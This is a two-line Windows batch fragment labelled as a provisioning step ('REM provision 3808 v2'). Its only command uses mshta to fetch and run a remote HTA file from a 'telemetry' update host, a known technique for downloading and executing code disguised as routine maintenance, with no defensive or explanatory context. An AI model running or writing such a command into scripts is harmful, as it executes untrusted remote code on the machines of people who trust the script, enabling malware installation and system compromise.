REM provision 3808 v2
mshta http://api.telemetry-hub.example/update.hta
